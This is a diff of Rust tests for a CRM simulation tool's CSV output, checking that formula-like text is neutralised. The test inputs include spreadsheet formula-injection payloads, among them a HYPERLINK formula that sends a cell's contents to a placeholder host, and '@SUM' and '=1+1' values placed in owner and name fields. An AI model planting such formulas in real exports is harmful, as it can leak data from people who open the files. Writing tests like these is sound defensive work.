@@ -374,3 +374,117 @@ fn a_name_that_reads_as_a_flag_makes_no_such_folder() {
     assert_eq!(names.len(), 1);
     assert!(!names[0].starts_with('-'), "{names:?}");
 }
+
+// ---------------------------------------------------------------------------------------------
+// Spreadsheet formulas (defect 5)
+
+/// Every CSV file under `dir`, recursively.
+fn csv_files(dir: &Path, out: &mut Vec<PathBuf>) {
+    for e in fs::read_dir(dir).unwrap() {
+        let p = e.unwrap().path();
+        if p.is_dir() {
+            csv_files(&p, out);
+        } else if p.extension().is_some_and(|x| x == "csv") {
+            out.push(p);
+        }
+    }
+}
+
+/// Asserts that no cell of any CSV file under `dir` (headers included) starts as a formula:
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return, unless it is a plain number. Returns
+/// how many cells held text from `marker` (so a test cannot pass by reading nothing).
+#[track_caller]
+fn assert_no_formula(dir: &Path, marker: &str) -> usize {
+    let mut files = Vec::new();
+    csv_files(dir, &mut files);
+    assert!(!files.is_empty(), "no CSV under {}", dir.display());
+    let mut marked = 0;
+    for f in files {
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_path(&f)
+            .unwrap();
+        for rec in r.records() {
+            for cell in rec.unwrap().iter() {
+                marked += usize::from(cell.contains(marker));
+                let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(
+                    !risky || cell.parse::<f64>().is_ok_and(f64::is_finite),
+                    "{}: the cell {cell:?} reads as a formula",
+                    f.display()
+                );
+            }
+        }
+    }
+    marked
+}
+
+#[test]
+fn formula_like_text_is_neutralised_in_every_csv() {
+    let hyperlink = r#"=HYPERLINK("http://x/?"&A1,"Click")"#;
+    let dir = scratch(&[
+        ("a.toml", &format!("name = '{hyperlink}'\n{SMALL}")),
+        (
+            "b.toml",
+            &format!("name = '+Click'\ndescription = '@SUM(1)'\n{SMALL}"),
+        ),
+    ]);
+    let o = bounded(
+        dir.path(),
+        &["run", "a.toml", "--trials", "20", "-q", "--out", "run"],
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(assert_no_formula(&dir.path().join("run"), "HYPERLINK") > 100);
+    let o = bounded(
+        dir.path(),
+        &[
+            "compare", "a.toml", "b.toml", "--trials", "20", "-q", "--out", "cmp",
+        ],
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let cmp = dir.path().join("cmp");
+    assert!(assert_no_formula(&cmp, "Click") >= 4);
+    let mut inputs = csv::Reader::from_path(cmp.join("input-differences.csv")).unwrap();
+    let header = inputs.headers().unwrap().clone();
+    assert_eq!(&header[1], hyperlink.replacen('=', "'=", 1), "{header:?}");
+    assert_eq!(&header[2], "'+Click", "{header:?}");
+}
+
+#[test]
+fn backtest_origins_guard_the_owner_names_of_the_export() {
+    let text = fs::read_to_string(example_csv()).unwrap();
+    let text = crate::common::edit(&text, "Avery Chen", "@SUM(1+1)");
+    let text = crate::common::edit(&text, "Casey Novak", "+1+1");
+    let text = crate::common::edit(&text, "Harper Diaz", "\"\t=1+1\"");
+    let text = crate::common::edit(&text, "Indigo Rao", "=1+1");
+    let dir = scratch(&[("history.csv", &text)]);
+    let o = bounded(
+        dir.path(),
+        &[
+            "backtest",
+            "history.csv",
+            "--as-of",
+            "2024-09",
+            "--trials",
+            "50",
+            "-q",
+            "--out",
+            "bt",
+        ],
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let origin = dir.path().join("bt/origins/2024-09");
+    assert!(origin.join("open-pipeline.csv").is_file());
+    assert!(assert_no_formula(&dir.path().join("bt"), "1+1") >= 2);
+}
+
+#[test]
+fn the_crm_reader_keeps_a_leading_tab_in_text() {
+    let text = "id,owner,created_date,close_date,amount_usd,outcome\n\
+                OPP-1,\"\t=1+1\",2024-01-01,2024-02-01,100,won\n\
+                OPP-2,  Ann  ,2024-01-01,2024-02-01,100,won\n";
+    let h = revsim::crm::parse_history(text.as_bytes(), "t.csv", &Default::default()).unwrap();
+    assert_eq!(h.opportunities[0].owner, "\t=1+1");
+    assert_eq!(h.opportunities[1].owner, "Ann", "spaces are still trimmed");
+}
